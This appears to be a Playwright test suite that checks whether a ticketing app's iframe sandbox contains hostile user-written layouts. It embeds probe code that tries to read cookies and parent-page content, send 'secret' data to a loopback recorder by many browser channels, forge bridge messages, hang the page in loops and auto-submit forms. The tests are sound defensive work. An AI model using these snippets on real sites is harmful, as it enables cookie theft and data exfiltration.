"""Hostile layouts in Chromium: each tries to escape its box and must fail.

A layout's one way out is the bridge: the values it hands the page, which the page filters
and the server checks again. The probes below report what they managed through that channel
(the hidden input the page writes), and a recorder on loopback notes any request that
reaches it: every attempt to send data anywhere must leave it empty.
"""

import json
import re
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Page, expect
from pytest_django.live_server_helper import LiveServer

from conftest import make_tenant
from tests.e2e.conftest import in_db_thread
from tests.e2e.test_portal import log_in
from ticketflower.definitions.models import ReleaseTicketType
from ticketflower.runtime.models import TicketInstance
from ticketflower.runtime.tests.workflows import publish, review_bundle

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]


class Recorder(ThreadingHTTPServer):
    hits: list[str]


@pytest.fixture
def recorder() -> Iterator[Recorder]:
    """An outside server on loopback that answers everything and remembers every request."""

    class Handler(BaseHTTPRequestHandler):
        def _hit(self) -> None:
            self.server.hits.append(f"{self.command} {self.path}")  # type: ignore[attr-defined]
            self.send_response(200)
            self.send_header("Content-Type", "text/plain")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(b"ok")

        do_GET = do_POST = do_OPTIONS = _hit

        def log_message(self, *args: Any) -> None:
            pass

    server = Recorder(("127.0.0.1", 0), Handler)
    server.hits = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()


def open_with_layout(page: Page, live_server: LiveServer, source: str) -> ReleaseTicketType:
    def make() -> tuple[str, ReleaseTicketType]:
        tenant = make_tenant("Alpha Florists")
        bundle = review_bundle()
        bundle["ticket_types"][0]["edit_layout"] = source
        return tenant.member.email, publish(tenant.designer, bundle)

    email, ticket_type = in_db_thread(make)
    log_in(page, live_server.url, email)
    page.goto(f"{live_server.url}/submit/{ticket_type.pk}/")
    return ticket_type


def reported(page: Page) -> dict[str, Any]:
    """What the layout handed the page, once it has (the page writes "{}" when the frame is ready)."""
    values = page.locator("#layout-values")
    expect(values).to_have_value(re.compile('"item"'), timeout=10_000)
    return dict(json.loads(values.input_value()))


def probe(body: str) -> str:
    """A layout that runs `body` once it is shown and reports `out` as the value of "item"."""
    return (
        'import { useEffect } from "react";\n'
        'import { useForm } from "@ticketflower/kit";\n'
        "export default function Layout() {\n"
        "  const { setValues } = useForm();\n"
        "  useEffect(() => {\n"
        "    const out: Record<string, string> = {};\n"
        "    const attempt = (name: string, f: () => unknown) => {\n"
        '      try { out[name] = "read: " + String(f()); } catch (e) { out[name] = "blocked"; }\n'
        "    };\n"
        f"{body}\n"
        "    setValues({ item: JSON.stringify(out) });\n"
        "  }, []);\n"
        "  return <p>probe</p>;\n"
        "}\n"
    )


def test_a_layout_cannot_read_cookies_storage_or_the_page(
    page: Page, live_server: LiveServer, layout_sandbox: str
) -> None:
    source = probe(
        """
    attempt("cookie", () => document.cookie);
    attempt("parent cookie", () => window.parent.document.cookie);
    attempt("parent page", () => window.parent.document.body.innerHTML);
    attempt("top address", () => window.top!.location.href);
    attempt("local storage", () => window.localStorage.getItem("x"));
    attempt("session storage", () => window.sessionStorage.length);
    attempt("opener", () => (window.opener ? "has opener" : (() => { throw new Error(); })()));
"""
    )
    open_with_layout(page, live_server, source)

    found = json.loads(reported(page)["item"])

    assert found == dict.fromkeys(
        [
            "cookie",
            "parent cookie",
            "parent page",
            "top address",
            "local storage",
            "session storage",
            "opener",
        ],
        "blocked",
    )


def test_a_layout_cannot_send_anything_anywhere(
    page: Page, live_server: LiveServer, layout_sandbox: str, recorder: Recorder
) -> None:
    outside = f"http://127.0.0.1:{recorder.server_address[1]}"
    source = probe(
        f"""
    const outside = "{outside}";
    attempt("fetch", () => fetch(outside + "/fetch?secret=1").catch(() => 0));
    attempt("xhr", () => {{ const x = new XMLHttpRequest(); x.open("GET", outside + "/xhr"); x.send(); }});
    attempt("websocket", () => new WebSocket(outside.replace("http", "ws") + "/ws"));
    attempt("beacon", () => navigator.sendBeacon(outside + "/beacon", "secret"));
    attempt("event source", () => new EventSource(outside + "/sse"));
    attempt("image", () => {{ const i = new Image(); i.src = outside + "/img"; document.body.appendChild(i); }});
    attempt("css", () => {{
      const d = document.createElement("div");
      d.style.backgroundImage = `url(${{outside}}/css)`;
      document.body.appendChild(d);
      const l = document.createElement("link");
      l.rel = "stylesheet"; l.href = outside + "/style.css";
      document.head.appendChild(l);
    }});
    attempt("script", () => {{ const s = document.createElement("script"); s.src = outside + "/x.js"; document.head.appendChild(s); }});
    attempt("import", () => import(/* @vite-ignore */ outside + "/m.js").catch(() => 0));
    attempt("form", () => {{
      const f = document.createElement("form");
      f.method = "post"; f.action = outside + "/form";
      document.body.appendChild(f); f.submit();
    }});
    attempt("popup", () => window.open(outside + "/popup"));
    attempt("top navigation", () => {{ window.top!.location.href = outside + "/top"; }});
    attempt("link to top", () => {{
      const a = document.createElement("a");
      a.href = outside + "/link"; a.target = "_top";
      document.body.appendChild(a); a.click();
    }});
    setTimeout(() => {{ window.location.href = outside + "/self"; }}, 300);
"""
    )
    ticket_type = open_with_layout(page, live_server, source)
    # Every attempt ran before the last one, the frame navigating itself; that one is blocked
    # (the page's frame-src), the frame shows an error page, and the page removes it.
    host = page.get_by_test_id("layout-ticket-edit")
    expect(host).to_have_attribute("data-state", "failed")
    expect(page.get_by_test_id("layout-failed")).to_contain_text("The layout left its page.")
    time.sleep(2)  # time for anything that got out to arrive

    assert recorder.hits == []
    assert page.url == f"{live_server.url}/submit/{ticket_type.pk}/"
    assert len(page.context.pages) == 1  # no popup


FORGER = """import { useEffect } from "react";
export default function Layout() {
  useEffect(() => {
    // A message straight to the page, not over the bridge: ignored.
    window.parent.postMessage({ type: "submit", values: { item: "from the window" } }, "*");
  }, []);
  return <p>forger</p>;
}
// Catch the bridge's port too (the hello reaches every listener of this frame).
window.addEventListener("message", (event) => {
  const port = event.ports && event.ports[0];
  if (!port) return;
  setTimeout(() => {
    port.postMessage({ type: "change", values: { item: "x".repeat(300000) } });
    port.postMessage({ type: "bogus", values: { item: "bogus" } });
    port.postMessage({ type: "resize", height: 1e9 });
    port.postMessage({ type: "change", values: { item: "ok", hacker: "x", urgent: true, count: { $gt: 1 } } });
  }, 500);
});
"""


def test_forged_and_oversized_messages_change_nothing_they_should_not(
    page: Page, live_server: LiveServer, layout_sandbox: str
) -> None:
    open_with_layout(page, live_server, FORGER)

    # Only the plausible value of a field the layout covers got through.
    assert reported(page) == {"item": "ok"}
    height = page.get_by_test_id("layout-ticket-edit").locator("iframe").evaluate("f => f.offsetHeight")
    assert height <= 10_000
    time.sleep(1)
    assert in_db_thread(lambda: TicketInstance.unscoped.count()) == 0  # no forged submit


@pytest.mark.parametrize(
    "source",
    [
        # Stuck after it was shown, and stuck before it could even say hello.
        'import { useEffect } from "react";\nexport default function L() {\n'
        "  useEffect(() => { setTimeout(() => { while (true) {} }, 300); }, []);\n  return <p>spin</p>;\n}\n",
        "while (true) {}\nexport default function L() { return null; }\n",
    ],
    ids=["after-render", "at-load"],
)
def test_a_layout_that_loops_forever_is_torn_down_and_the_page_stays_usable(
    page: Page, live_server: LiveServer, layout_sandbox: str, source: str
) -> None:
    open_with_layout(page, live_server, source)

    started = time.monotonic()
    assert page.evaluate("1 + 1") == 2  # the page's own thread is free
    assert time.monotonic() - started < 1
    host = page.get_by_test_id("layout-ticket-edit")
    expect(host).to_have_attribute("data-state", "failed", timeout=15_000)
    expect(host.locator("iframe")).to_have_count(0)

    page.get_by_label("Item").fill("Still works")
    page.get_by_role("button", name="Submit ticket").click()
    expect(page.get_by_role("heading", name="Ticket submitted")).to_be_visible()


SUBMITS_BY_ITSELF = """import { useEffect } from "react";
import { useForm } from "@ticketflower/kit";
export default function Layout() {
  const { setValues, submit } = useForm();
  useEffect(() => {
    setValues({ item: "nobody asked for this" });
    setTimeout(() => submit(), 300);
  }, []);
  return <p>eager</p>;
}
"""


def test_a_layout_cannot_submit_the_form_by_itself(
    page: Page, live_server: LiveServer, layout_sandbox: str
) -> None:
    ticket_type = open_with_layout(page, live_server, SUBMITS_BY_ITSELF)
    page.wait_for_timeout(1500)
    first = in_db_thread(lambda: TicketInstance.unscoped.count())
    # Arriving by a click on a link, as people do.
    page.goto(f"{live_server.url}/submit/")
    page.get_by_role("link", name=ticket_type.title).click()
    page.wait_for_timeout(1500)

    assert reported(page) == {"item": "nobody asked for this"}  # it ran, and tried
    assert (first, in_db_thread(lambda: TicketInstance.unscoped.count())) == (0, 0)
    assert "/submit/" in page.url
